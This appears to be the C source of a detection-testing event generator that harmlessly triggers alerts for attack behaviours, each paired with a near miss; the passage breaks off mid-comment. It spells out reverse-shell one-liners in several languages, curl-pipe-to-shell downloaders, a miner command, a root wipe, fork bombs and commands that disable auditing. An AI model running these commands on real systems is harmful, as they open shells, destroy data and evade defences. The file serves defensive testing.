// SPDX-License-Identifier: Apache-2.0
/*
 * saker-eventgen: performs, safely, each behaviour the default rules detect,
 * so a user sees an alert for each on their own machine, and for each a near
 * miss that must raise nothing.
 *
 * Safety: every action is local, bounded and cleans up after itself; files
 * it creates are named saker-eventgen* (or live under /tmp/saker-eventgen)
 * and hold one comment line; files that matter to the system
 * (/etc/ld.so.preload, /etc/passwd, /proc/sys/...) are opened for writing and
 * closed without a byte written. "Attack tools" (nc, xmrig, rm -rf /, a fork
 * bomb) are this program itself, run under that name through a symlink in
 * /run/saker-eventgen: it
 * sees SAKER_EVENTGEN_NOOP in its environment and exits at once. Network
 * actions run in a network namespace the action creates (loopback up, the
 * documentation address 192.0.2.1 on it), so no packet leaves the machine,
 * and none sends a DNS query: the one name an action resolves (a mining
 * pool's) comes from a hosts file of its own in a private mount namespace.
 *
 * Usage: saker-eventgen --list | --hosts | --action NAME | --near NAME | --all | --near-all [--sessions FILE]
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <netdb.h>
#include <linux/bpf.h>
#include <linux/sched.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#define TMPDIR "/tmp/saker-eventgen"
#define FAKEDIR "/run/saker-eventgen"
#define NOOP_ENV "SAKER_EVENTGEN_NOOP"
#define SELFDEL_ENV "SAKER_EVENTGEN_UNLINK_SELF"
#define READ_AFTER_ENV "SAKER_EVENTGEN_READ_AFTER" /* SECONDS:PATH */
#define SLEEP_ENV "SAKER_EVENTGEN_SLEEP"           /* the copy sleeps a second and exits */
#define ATTACH_ENV "SAKER_EVENTGEN_ATTACH"         /* PID: the copy ptrace-attaches to it, detaches */
#define BPF_ENV "SAKER_EVENTGEN_BPF"               /* the copy calls bpf(BPF_PROG_LOAD), refused */

enum where { ANY, HOST, CONTAINER };

struct action {
	const char *name;
	const char *technique; /* MITRE ATT&CK id */
	enum where where;      /* where the expected rules fire */
	const char *rules;     /* expected rules, ';' separated */
	int (*run)(void);
	int (*near)(void);     /* a near miss that must raise none of them */
	const char *what;
};

static char self_exe[PATH_MAX];

static int quiet_wait(pid_t pid)
{
	int st = 0;

	if (pid < 0)
		return -1;
	waitpid(pid, &st, 0);
	return WIFEXITED(st) ? WEXITSTATUS(st) : 128;
}

/* Run argv in a grandchild; the child in between is named comm_of_parent. */
static int spawn_env(const char *comm_of_parent, char *const argv[], int keep_fd, char *const envp[])
{
	pid_t mid = fork();

	if (mid < 0)
		return -1;
	if (mid == 0) {
		pid_t kid;

		if (comm_of_parent)
			prctl(PR_SET_NAME, comm_of_parent, 0, 0, 0);
		kid = fork();
		if (kid == 0) {
			if (keep_fd >= 0)
				fcntl(keep_fd, F_SETFD, 0);
			if (envp)
				execve(argv[0], argv, envp);
			else
				execv(argv[0], argv);
			_exit(127);
		}
		_exit(quiet_wait(kid));
	}
	return quiet_wait(mid);
}

static int spawn(const char *comm_of_parent, char *const argv[], int keep_fd)
{
	return spawn_env(comm_of_parent, argv, keep_fd, NULL);
}

static void tmpdir(void)
{
	mkdir(TMPDIR, 0700);
}

extern char **environ;

/* this process's environment plus one variable (for the no-op and
 * self-deleting copies: the rest of the environment is kept) */
static char **env_plus(const char *var)
{
	static char *env[256];
	int n = 0;

	env[n++] = (char *)var;
	for (char **e = environ; e && *e && n < 255; e++)
		env[n++] = *e;
	env[n] = NULL;
	return env;
}

/* Run this program under the name `name` with the given arguments and one
 * more environment variable, which says what the copy does. */
static int fake_env(const char *comm_of_parent, const char *name, const char *var, const char *const args[])
{
	char path[256], *argv[16];
	char **envp = env_plus(var);
	int n = 0, rc;

	/* not under /tmp: a program run from there raises a rule of its own */
	mkdir(FAKEDIR, 0700);
	snprintf(path, sizeof(path), FAKEDIR "/%s", name);
	unlink(path);
	if (symlink(self_exe, path))
		return -1;
	argv[n++] = path;
	for (; args && *args && n < 15; args++)
		argv[n++] = (char *)*args;
	argv[n] = NULL;
	rc = spawn_env(comm_of_parent, argv, -1, envp);
	unlink(path);
	rmdir(FAKEDIR);
	return rc;
}

/* ... and SAKER_EVENTGEN_NOOP: it exits at once, only its command line is seen */
static int fake_as(const char *comm_of_parent, const char *name, const char *const args[])
{
	return fake_env(comm_of_parent, name, NOOP_ENV "=1", args);
}

#define FAKE(name, ...) fake_as(NULL, name, (const char *const[]){ __VA_ARGS__, NULL })

static int sh(const char *cmd)
{
	char *argv[] = { (char *)"/bin/sh", (char *)"-c", (char *)cmd, NULL };

	return spawn(NULL, argv, -1);
}

static int write_file(const char *path, int flags, mode_t mode)
{
	static const char line[] = "# saker-eventgen test file, removed at once\n";
	int fd = open(path, flags | O_WRONLY | O_CREAT | O_CLOEXEC, mode);

	if (fd < 0) {
		fprintf(stderr, "  cannot create %s: %s\n", path, strerror(errno));
		return -1;
	}
	if (write(fd, line, sizeof(line) - 1) < 0)
		perror("  write");
	close(fd);
	return 0;
}

static int create_and_remove(const char *path)
{
	int rc = write_file(path, O_TRUNC, 0644);

	unlink(path);
	return rc;
}

/* Open for writing and close without writing (creating it only if absent,
 * and then removing it): the open is the behaviour, nothing changes. */
static int touch_for_write(const char *path)
{
	bool existed = access(path, F_OK) == 0;
	int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC | (existed ? 0 : O_CREAT), 0644);

	if (fd < 0)
		return -1;
	close(fd);
	if (!existed)
		unlink(path);
	return 0;
}

static int read_path(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return -1;
	close(fd);
	return 0;
}

/* Create path (and missing parents, removed after), write, read, remove. */
static int with_file(const char *path, bool read_it)
{
	char dirs[8][256];
	int ndirs = 0, rc;
	char buf[256];

	snprintf(buf, sizeof(buf), "%s", path);
	for (char *p = buf + 1; *p; p++) {
		if (*p != '/')
			continue;
		*p = 0;
		if (access(buf, F_OK) && !mkdir(buf, 0700) && ndirs < 8)
			snprintf(dirs[ndirs++], sizeof(dirs[0]), "%s", buf);
		*p = '/';
	}
	rc = write_file(path, O_TRUNC, 0600);
	if (rc == 0 && read_it)
		rc = read_path(path);
	unlink(path);
	while (ndirs > 0)
		rmdir(dirs[--ndirs]);
	return rc;
}

/* Loopback up, with ip on it as well (an alias label per address). */
static int netns_up(const char *ip, const char *label)
{
	struct ifreq ifr;
	struct sockaddr_in *a = (struct sockaddr_in *)&ifr.ifr_addr;
	int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), rc = -1;

	memset(&ifr, 0, sizeof(ifr));
	snprintf(ifr.ifr_name, IFNAMSIZ, "lo");
	if (s < 0 || ioctl(s, SIOCGIFFLAGS, &ifr))
		goto out;
	ifr.ifr_flags |= IFF_UP | IFF_RUNNING;
	if (ioctl(s, SIOCSIFFLAGS, &ifr))
		goto out;
	memset(&ifr, 0, sizeof(ifr));
	snprintf(ifr.ifr_name, IFNAMSIZ, "%s", label);
	a->sin_family = AF_INET;
	inet_pton(AF_INET, ip, &a->sin_addr);
	rc = ioctl(s, SIOCSIFADDR, &ifr);
out:
	if (s >= 0)
		close(s);
	return rc;
}

/* A child in a new network namespace: loopback up, 192.0.2.1 on it. */
static int in_netns(int (*fn)(void *), void *arg)
{
	pid_t pid = fork();

	if (pid == 0) {
		if (unshare(CLONE_NEWNET))
			_exit(2);
		if (netns_up("192.0.2.1", "lo:1"))
			_exit(3);
		_exit(fn(arg) ? 1 : 0);
	}
	return quiet_wait(pid);
}

/* A child with a private mount namespace and a tmpfs on dir: whatever it
 * writes there disappears with it, without an unlink. */
static int in_private_tmpfs(const char *dir, int (*fn)(void))
{
	bool made = access(dir, F_OK) != 0;
	pid_t pid;
	int rc;

	if (made && mkdir(dir, 0755))
		return -1;
	pid = fork();
	if (pid == 0) {
		if (unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
		    mount("saker-eventgen", dir, "tmpfs", 0, "size=1m"))
			_exit(2);
		_exit(fn() ? 1 : 0);
	}
	rc = quiet_wait(pid);
	if (made)
		rmdir(dir);
	return rc;
}

struct conn {
	const char *comm, *ip;
	int port, type;
};

static int connect_as(void *arg)
{
	const struct conn *c = arg;
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(c->port) };
	int srv = -1, s;

	inet_pton(AF_INET, c->ip, &a.sin_addr);
	if (c->type == SOCK_STREAM) { /* a listener, so the connect completes locally */
		srv = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
		setsockopt(srv, SOL_SOCKET, SO_REUSEADDR, &(int){ 1 }, sizeof(int));
		if (srv < 0 || bind(srv, (struct sockaddr *)&a, sizeof(a)) || listen(srv, 1))
			return -1;
	}
	if (c->comm)
		prctl(PR_SET_NAME, c->comm, 0, 0, 0);
	s = socket(AF_INET, c->type | SOCK_CLOEXEC, 0);
	if (s < 0 || connect(s, (struct sockaddr *)&a, sizeof(a)))
		return -1;
	close(s);
	if (srv >= 0)
		close(srv);
	return 0;
}

static int net_connect(const char *comm, const char *ip, int port, int type)
{
	struct conn c = { comm, ip, port, type };

	return in_netns(connect_as, &c);
}

/* A loopback TCP listener; returns its fd, the port in *port. */
static int loopback_listener(int *port)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	socklen_t len = sizeof(a);
	int srv = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (srv < 0 || bind(srv, (struct sockaddr *)&a, sizeof(a)) || listen(srv, 4) ||
	    getsockname(srv, (struct sockaddr *)&a, &len)) {
		if (srv >= 0)
			close(srv);
		return -1;
	}
	*port = ntohs(a.sin_port);
	return srv;
}

/* A child that waits to be killed; for ptrace and /proc/<pid> actions. */
static pid_t sleeper(void)
{
	pid_t kid = fork();

	if (kid == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
		pause();
		_exit(0);
	}
	return kid;
}

static void reap(pid_t kid)
{
	kill(kid, SIGKILL);
	waitpid(kid, NULL, 0);
}

/* ------------------------------------------------------------- execution */

static int a_shell_from_server(void)
{
	char *argv[] = { (char *)"/bin/sh", (char *)"-c", (char *)"true", NULL };

	return spawn("nginx", argv, -1);
}

static int n_shell_from_server(void)
{
	char *argv[] = { (char *)"/bin/true", NULL };

	return spawn("nginx", argv, -1);
}

static int a_db_spawn(void)
{
	char *argv[] = { (char *)"/bin/true", NULL };

	return spawn("mysqld", argv, -1);
}

static int n_db_spawn(void)
{
	char *argv[] = { (char *)"/bin/true", NULL };

	return spawn("mysqldump", argv, -1);
}

static int a_memfd_exec(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		int src = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
		int mfd = syscall(SYS_memfd_create, "saker-eventgen", 0);
		char buf[65536];
		ssize_t n;
		char *argv[] = { (char *)"saker-eventgen-memfd", NULL };
		char **envp = env_plus(NOOP_ENV "=1");

		if (src < 0 || mfd < 0)
			_exit(1);
		while ((n = read(src, buf, sizeof(buf))) > 0)
			if (write(mfd, buf, n) != n)
				_exit(1);
		fexecve(mfd, argv, envp);
		_exit(127);
	}
	return quiet_wait(pid);
}

static int n_plain_exec(void)
{
	char *argv[] = { (char *)"/bin/true", NULL };

	return spawn(NULL, argv, -1);
}

/* copy this program to path, give the copy a mode (0: 0755), run it there
 * (as a no-op) as user uid (0: as we are) */
static int copy_self_and_run_as(const char *path, const char *cwd, mode_t mode, uid_t uid)
{
	int src = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), dst, rc;
	char buf[65536];
	ssize_t n;
	char *argv[] = { (char *)path, NULL };
	char **envp = env_plus(NOOP_ENV "=1");
	pid_t pid;

	unlink(path);
	dst = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
	if (src < 0 || dst < 0) {
		if (src >= 0)
			close(src);
		return -1;
	}
	while ((n = read(src, buf, sizeof(buf))) > 0)
		if (write(dst, buf, n) != n)
			break;
	close(src);
	close(dst);
	if (mode && chmod(path, mode))
		perror("  chmod");
	pid = fork();
	if (pid == 0) {
		if (cwd && chdir(cwd))
			_exit(1);
		if (uid && (setresgid(uid, uid, uid) || setresuid(uid, uid, uid)))
			_exit(1);
		execve(path, argv, envp);
		_exit(127);
	}
	rc = quiet_wait(pid);
	unlink(path);
	return rc;
}

static int copy_self_and_run(const char *path, const char *cwd)
{
	return copy_self_and_run_as(path, cwd, 0, 0);
}

/* nobody runs a setuid-root copy of this program from /var/tmp (not /tmp,
 * often mounted nosuid): the exec makes it root */
static int a_setuid_exec(void)
{
	const char *dir = "/var/tmp/saker-eventgen";
	int rc;

	mkdir(dir, 0755);
	rc = copy_self_and_run_as("/var/tmp/saker-eventgen/rootshell", NULL, 04755, 65534);
	rmdir(dir);
	return rc;
}

/* nobody (through runuser) runs a packaged setuid program: su --version */
static int n_setuid_exec(void)
{
	char *argv[] = { (char *)"/usr/sbin/runuser", (char *)"-u", (char *)"nobody", (char *)"--",
			 (char *)"/bin/su", (char *)"--version", NULL };

	return spawn(NULL, argv, -1);
}

static int a_devshm_exec(void) { return copy_self_and_run("/dev/shm/saker-eventgen-exec", NULL); }
static int n_devshm_exec(void)
{
	char *argv[] = { (char *)"/bin/true", NULL };
	pid_t pid = fork();

	if (pid == 0) { /* an ordinary program, run with /tmp as working directory */
		if (chdir("/tmp"))
			_exit(1);
		execv(argv[0], argv);
		_exit(127);
	}
	return quiet_wait(pid);
}

static int a_tmp_exec(void)
{
	tmpdir();
	return copy_self_and_run(TMPDIR "/dropped", NULL);
}

static int a_new_binary_exec(void)
{
	const char *dir = "/var/cache/saker-eventgen";
	int rc;

	mkdir(dir, 0700);
	rc = copy_self_and_run("/var/cache/saker-eventgen/dropped", NULL);
	rmdir(dir);
	return rc;
}

static int a_netcat_exec(void) { return FAKE("nc", "-e", "/bin/sh", "127.0.0.1", "4444"); }
static int n_netcat_exec(void) { return FAKE("nc", "-zv", "127.0.0.1", "22"); }
static int a_socat_exec(void) { return FAKE("socat", "TCP:127.0.0.1:4444", "EXEC:/bin/sh,pty,stderr"); }
static int n_socat_exec(void) { return FAKE("socat", "TCP-LISTEN:4444,bind=127.0.0.1", "STDOUT"); }

static int a_reverse_shell(void)
{
	int port, srv = loopback_listener(&port), cli, rc;
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
	char *argv[] = { (char *)"/bin/sh", (char *)"-c", (char *)"exec 0<&3 1>&3; true", NULL };

	if (srv < 0)
		return -1;
	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	cli = socket(AF_INET, SOCK_STREAM, 0);
	if (cli < 0 || connect(cli, (struct sockaddr *)&a, sizeof(a)))
		return -1;
	if (cli != 3) { /* the shell expects the socket as fd 3 */
		if (dup2(cli, 3) < 0)
			return -1;
		close(cli);
	}
	rc = spawn(NULL, argv, 3);
	close(3);
	close(srv);
	return rc;
}

static int n_reverse_shell(void)
{
	int p[2], rc;
	char *argv[] = { (char *)"/bin/sh", (char *)"-c", (char *)"exec 0<&3; true", NULL };

	if (pipe(p))
		return -1;
	if (p[0] != 3) {
		dup2(p[0], 3);
		close(p[0]);
	}
	close(p[1]);
	rc = spawn(NULL, argv, 3);
	close(3);
	return rc;
}

static int a_bash_dev_tcp(void)
{
	int port, srv = loopback_listener(&port), rc;
	char cmd[128];
	char *argv[] = { (char *)"/bin/bash", (char *)"-c", cmd, NULL };

	if (srv < 0)
		return -1;
	snprintf(cmd, sizeof(cmd), "exec 1>/dev/tcp/127.0.0.1/%d 0>&1; true", port);
	rc = spawn(NULL, argv, -1);
	close(srv);
	return rc;
}

static int n_bash_dev_tcp(void)
{
	char *argv[] = { (char *)"/bin/bash", (char *)"-c", (char *)"exec 1>/dev/null 0</dev/null; true", NULL };

	return spawn(NULL, argv, -1);
}

static int a_python_reverse_shell(void)
{
	int port, srv = loopback_listener(&port), rc;
	char code[256];
	char *argv[] = { (char *)"/usr/bin/python3", (char *)"-c", code, NULL };

	if (srv < 0)
		return -1;
	snprintf(code, sizeof(code),
		 "import socket,os;s=socket.socket();s.connect(('127.0.0.1',%d));"
		 "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1)", port);
	rc = spawn(NULL, argv, -1);
	close(srv);
	return rc;
}

static int n_python_reverse_shell(void)
{
	char *argv[] = { (char *)"/usr/bin/python3", (char *)"-c", (char *)"import socket;socket.gethostname()", NULL };

	return spawn(NULL, argv, -1);
}

static int a_awk_reverse_shell(void)
{
	return FAKE("gawk", "BEGIN{s=\"/inet/tcp/0/127.0.0.1/4444\";while(1){s|&getline c;c|getline;close(c)}}");
}
static int n_awk_reverse_shell(void) { return FAKE("gawk", "BEGIN{print \"tcp\"}"); }
static int a_perl_reverse_shell(void)
{
	return FAKE("perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"127.0.0.1\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");");
}
static int n_perl_reverse_shell(void) { return FAKE("perl", "-e", "print \"hello\\n\""); }
static int a_php_reverse_shell(void)
{
	return FAKE("php", "-r", "$s=fsockopen(\"127.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");");
}
static int n_php_reverse_shell(void) { return FAKE("php", "-r", "echo 'hello';"); }
static int a_ruby_reverse_shell(void)
{
	return FAKE("ruby", "-rsocket", "-e", "c=TCPSocket.new(\"127.0.0.1\",4444);exec(\"/bin/sh -i\",[:in,:out,:err]=>[c,c,c])");
}
static int n_ruby_reverse_shell(void) { return FAKE("ruby", "-e", "puts 1"); }

/* `true ||` keeps the shell from running the rest: only the command line is seen */
static int a_mkfifo_reverse_shell(void)
{
	return sh("true || (rm -f " TMPDIR "/f; mkfifo " TMPDIR "/f; cat " TMPDIR "/f | sh -i 2>&1 | nc 127.0.0.1 4444 >" TMPDIR "/f)");
}
static int n_mkfifo_reverse_shell(void) { return sh("true || mkfifo " TMPDIR "/f"); }
static int a_telnet_pipe(void) { return sh("true || telnet 127.0.0.1 4444 | /bin/sh | telnet 127.0.0.1 4445"); }
static int n_telnet_pipe(void) { return sh("true || telnet 127.0.0.1 25"); }

/* SHELL -c CMD where CMD names a no-op downloader: fmt has one %s for its
 * path (the shell keeps SAKER_EVENTGEN_NOOP from its environment) */
static int fake_downloader(const char *shell, const char *tool, const char *fmt)
{
	char path[64], cmd[256];
	char *argv[] = { (char *)shell, (char *)"-c", cmd, NULL };
	int rc;

	mkdir(FAKEDIR, 0700);
	snprintf(path, sizeof(path), FAKEDIR "/%s", tool);
	unlink(path);
	if (symlink(self_exe, path))
		return -1;
	snprintf(cmd, sizeof(cmd), fmt, path);
	rc = spawn_env(NULL, argv, -1, env_plus(NOOP_ENV "=1"));
	unlink(path);
	rmdir(FAKEDIR);
	return rc;
}

static int a_curl_pipe_sh(void) { return fake_downloader("/bin/sh", "curl", "%s -fsSL http://127.0.0.1:9/install.sh | sh"); }
static int n_curl_pipe_sh(void) { return fake_downloader("/bin/sh", "curl", "%s -fsSL -o /dev/null http://127.0.0.1:9/x | cat"); }
static int a_wget_pipe_bash(void) { return fake_downloader("/bin/sh", "wget", "%s -qO- http://127.0.0.1:9/x.sh | bash"); }
static int n_wget_pipe_bash(void) { return fake_downloader("/bin/sh", "wget", "%s -qO- http://127.0.0.1:9/x.sh | cat"); }
/* python3 reads an empty program from the pipe */
static int a_curl_pipe_python(void) { return fake_downloader("/bin/sh", "curl", "%s -fsSL http://127.0.0.1:9/x.py | python3 -"); }
static int n_curl_pipe_python(void) { return fake_downloader("/bin/sh", "curl", "%s -fsSL http://127.0.0.1:9/x.py | python3 -c pass"); }
static int a_bash_process_subst(void) { return fake_downloader("/bin/bash", "curl", "bash <(%s -fsSL http://127.0.0.1:9/x.sh)"); }
static int n_bash_process_subst(void) { return fake_downloader("/bin/bash", "curl", "cat <(%s -fsSL http://127.0.0.1:9/x.sh)"); }

/* sh -c "$(curl ...)": the downloader called by name, through PATH */
static int a_curl_subst(void)
{
	return fake_downloader("/bin/sh", "curl", "PATH=" FAKEDIR ":$PATH%.0s; sh -c \"$(curl -fsSL http://127.0.0.1:9/x.sh)\"");
}
static int n_curl_subst(void)
{
	return fake_downloader("/bin/sh", "curl", "PATH=" FAKEDIR ":$PATH%.0s; curl -fsSL -o /dev/null http://127.0.0.1:9/x; sh -c true");
}
/* python3 -c 'exec(sys.stdin.read())' reads an empty program */
static int a_curl_python_stdin(void)
{
	return fake_downloader("/bin/sh", "curl", "%s -fsSL http://127.0.0.1:9/x.py | python3 -c 'import sys;exec(sys.stdin.read())'");
}
static int n_curl_python_stdin(void)
{
	return fake_downloader("/bin/sh", "curl", "%s -fsSL http://127.0.0.1:9/x.py | python3 -c 'import sys;print(len(sys.argv))'");
}
/* curl ... | sudo sh: sh reads an empty script as root through sudo */
static int a_curl_pipe_sudo(void) { return fake_downloader("/bin/sh", "curl", "%s -fsSL http://127.0.0.1:9/x.sh | sudo sh"); }
static int n_curl_pipe_sudo(void) { return fake_downloader("/bin/sh", "curl", "%s -fsSL http://127.0.0.1:9/x.sh | sudo cat"); }

/* An interactive shell's pipeline: the downloader leads the process group
 * (it started first), a shell in the same group reads the script from the
 * pipe on the downloader's stdout. The leader is a copy of this program
 * named curl that sleeps a second. Either the reader is started once the
 * leader has been executed, or (reader_first: a race the shell often wins)
 * the leader is a fork that waits for the reader's exec before its own. */
static int pipeline(const char *reader, bool reader_first)
{
	char path[64], go = 0;
	char *lead[] = { path, (char *)"-fsSL", (char *)"http://127.0.0.1:9/x.sh", NULL };
	char *rd[] = { (char *)reader, NULL };
	int p[2], sync[2];
	pid_t leader, kid;

	mkdir(FAKEDIR, 0700);
	snprintf(path, sizeof(path), FAKEDIR "/curl");
	unlink(path);
	if (symlink(self_exe, path) || pipe2(p, O_CLOEXEC) || pipe2(sync, O_CLOEXEC))
		return -1;
	leader = fork();
	if (leader == 0) {
		setpgid(0, 0);
		close(sync[1]);
		if (reader_first && read(sync[0], &go, 1) != 1)
			_exit(1);
		dup2(p[1], 1);
		execve(path, lead, env_plus(SLEEP_ENV "=1"));
		_exit(127);
	}
	setpgid(leader, leader);
	if (!reader_first)
		usleep(300000);
	kid = fork();
	if (kid == 0) {
		setpgid(0, leader);
		dup2(p[0], 0);
		execv(reader, rd);
		_exit(127);
	}
	close(p[0]);
	close(p[1]);
	if (reader_first) {
		usleep(300000);
		if (write(sync[1], &go, 1) != 1)
			kill(leader, SIGKILL);
	}
	close(sync[0]);
	close(sync[1]);
	quiet_wait(leader);
	quiet_wait(kid);
	unlink(path);
	rmdir(FAKEDIR);
	return 0;
}
static int a_pipeline_sh(void) { return pipeline("/bin/sh", false); }
static int n_pipeline_sh(void) { return pipeline("/bin/cat", false); }
static int a_pipeline_sh_first(void) { return pipeline("/bin/sh", true); }
static int n_pipeline_sh_first(void) { return pipeline("/bin/cat", true); }

/* sh -c 'curl -o /tmp/x URL; cp ... /tmp/x; /tmp/x' (the copy a no-op) */
static int dropper(bool run)
{
	char cmd[PATH_MAX + 256];

	tmpdir();
	snprintf(cmd, sizeof(cmd), "%s -fsSL -o " TMPDIR "/upd http://127.0.0.1:9/upd; cp %s " TMPDIR "/upd; %s; rm -f " TMPDIR "/upd",
		 "%s", self_exe, run ? TMPDIR "/upd" : "/bin/true");
	return fake_downloader("/bin/sh", "curl", cmd);
}
static int a_downloaded_tmp_exec(void) { return dropper(true); }
static int n_downloaded_tmp_exec(void) { return dropper(false); }

/* a copy of this program under a hidden name in /tmp */
static int a_hidden_tmp_exec(void)
{
	int rc;

	tmpdir();
	mkdir(TMPDIR "/.cache", 0700);
	rc = copy_self_and_run(TMPDIR "/.cache/kworker", NULL);
	rmdir(TMPDIR "/.cache");
	return rc;
}
/* an ordinary program run with a hidden directory in /tmp as its working directory */
static int n_hidden_tmp_exec(void)
{
	char *argv[] = { (char *)"/bin/true", NULL };
	pid_t pid;

	tmpdir();
	mkdir(TMPDIR "/.cache", 0700);
	pid = fork();
	if (pid == 0) {
		if (chdir(TMPDIR "/.cache"))
			_exit(1);
		execv(argv[0], argv);
		_exit(127);
	}
	quiet_wait(pid);
	return rmdir(TMPDIR "/.cache");
}

/* ------------------------------------------------------------- impact and miners */

static int a_miner_cmdline(void) { return FAKE("xmrig", "-o", "pool.supportxmr.com:443", "--tls"); }
static int n_miner_cmdline(void) { return FAKE("wget", "-q", "https://example.org/pool/index.html"); }
static int a_stratum(void) { return FAKE("worker", "--url", "stratum+tcp://pool.invalid:3333"); }
static int n_stratum(void) { return FAKE("worker", "--url", "https://pool.invalid/"); }
static int a_wipe(void) { return FAKE("rm", "-rf", "--no-preserve-root", "/"); }
static int n_wipe(void) { return FAKE("rm", "-rf", TMPDIR "/build"); }
static int a_fork_bomb(void) { return FAKE("bash", "-c", ":(){ :|:& };:"); }
static int n_fork_bomb(void) { return FAKE("bash", "-c", "echo : | cat"); }
static int a_fork_bomb_named(void) { return FAKE("bash", "-c", "bomb(){ bomb|bomb& };bomb"); }
static int n_fork_bomb_named(void) { return FAKE("bash", "-c", "f(){ echo a|cat; };f"); }
static int a_perl_fork_bomb(void) { return FAKE("perl", "-e", "fork while fork"); }
static int n_perl_fork_bomb(void) { return FAKE("perl", "-e", "fork or exit; wait"); }

/* a temporary file renamed to a new name, then removed */
static int rename_temp(const char *to)
{
	int rc;

	tmpdir();
	write_file(TMPDIR "/report.txt", O_TRUNC, 0600);
	rc = rename(TMPDIR "/report.txt", to);
	unlink(to);
	unlink(TMPDIR "/report.txt");
	return rc;
}

static int a_ransom_rename(void) { return rename_temp(TMPDIR "/report.txt.locked"); }
static int n_ransom_rename(void) { return rename_temp(TMPDIR "/report.txt.bak"); }
/* openssl enc -out FILE.locked: the encrypted copy is created with the extension */
static int a_ransom_create(void) { tmpdir(); return create_and_remove(TMPDIR "/report.txt.locked"); }
static int n_ransom_create(void) { tmpdir(); return create_and_remove(TMPDIR "/report.txt.lock"); }

/* ------------------------------------------------------------- defense evasion (commands) */

static int a_disable_security(void) { return FAKE("systemctl", "stop", "auditd"); }
static int n_disable_security(void) { return FAKE("systemctl", "status", "auditd"); }
static int a_firewall_policy(void) { return FAKE("iptables", "-P", "INPUT", "ACCEPT"); }
static int n_firewall_policy(void) { return FAKE("iptables", "-P", "INPUT", "DROP"); }
static int a_chattr_immutable(void) { return FAKE("chattr", "+i", TMPDIR "/authorized_keys"); }
static int n_chattr_immutable(void) { return FAKE("chattr", "+C", TMPDIR "/disk.img"); }
static int a_systemd_run_timer(void) { return FAKE("systemd-run", "--on-active=1h", "/bin/true"); }
static int n_systemd_run_timer(void) { return FAKE("systemd-run", "--scope", "/bin/true"); }
static int a_dns_encoded(void)
{
	return FAKE("dig", "@127.0.0.1", "6b657920736563726574206f6620746865207573657220726f6f74.t.example.invalid", "TXT");
}
static int n_dns_encoded(void) { return FAKE("dig", "@127.0.0.1", "mail.example.invalid", "MX"); }
static int a_chpasswd_stdin(void) { return fake_as(NULL, "chpasswd", (const char *const[]){ NULL }); }
/* a password hash made from stdin: no account changes */
static int n_chpasswd_stdin(void) { return fake_as(NULL, "mkpasswd", (const char *const[]){ NULL }); }
/* a shell exports HISTFILE=/dev/null, then runs a command */
static int a_histfile_devnull(void) { return sh("export HISTFILE=/dev/null; /bin/true; /bin/true"); }
static int n_histfile_devnull(void) { return sh("export HISTFILE=" TMPDIR "/history; /bin/true; /bin/true"); }

/* a copy of this program named auditd, sleeping, sent sig */
static int signal_fake_auditd(int sig)
{
	char path[64];
	char *argv[] = { path, NULL };
	pid_t pid;

	mkdir(FAKEDIR, 0700);
	snprintf(path, sizeof(path), FAKEDIR "/auditd");
	unlink(path);
	if (symlink(self_exe, path))
		return -1;
	pid = fork();
	if (pid == 0) {
		execve(path, argv, env_plus(SLEEP_ENV "=1"));
		_exit(127);
	}
	usleep(300000);
	kill(pid, sig);
	quiet_wait(pid);
	unlink(path);
	rmdir(FAKEDIR);
	return 0;
}
static int a_kill_security_tool(void) { return signal_fake_auditd(SIGKILL); }
static int n_kill_security_tool(void) { return signal_fake_auditd(SIGHUP); }

/* touch [-d DATE] on a temporary file, then remove it */
static int touch_temp(const char *date)
{
	char *with[] = { (char *)"/usr/bin/touch", (char *)"-d", (char *)date, (char *)TMPDIR "/ts", NULL };
	char *without[] = { (char *)"/usr/bin/touch", (char *)TMPDIR "/ts", NULL };
	int rc;

	tmpdir();
	rc = spawn(NULL, date ? with : without, -1);
	unlink(TMPDIR "/ts");
	return rc;
}

static int a_timestomp(void) { return touch_temp("2001-01-01 00:00:00"); }

/* utimensat(TIMES) on a file of its own under /usr/local/lib (a directory
 * "Timestomp file times" covers), then remove it */
#define TIMESTOMP_FILE "/usr/local/lib/saker-eventgen-timestomp"
static int utimensat_lib_file(const struct timespec *times)
{
	int rc;

	if (write_file(TIMESTOMP_FILE, O_TRUNC, 0600))
		return -1;
	rc = utimensat(AT_FDCWD, TIMESTOMP_FILE, times, 0);
	unlink(TIMESTOMP_FILE);
	return rc;
}

static int a_utimensat_past(void)
{
	/* 2001-01-01 00:00:00 UTC as both times, what touch -d 2001-01-01 asks for */
	static const struct timespec t[2] = { { 978307200, 0 }, { 978307200, 0 } };

	return utimensat_lib_file(t);
}
/* the times that are not set back: each in a call of its own on the file
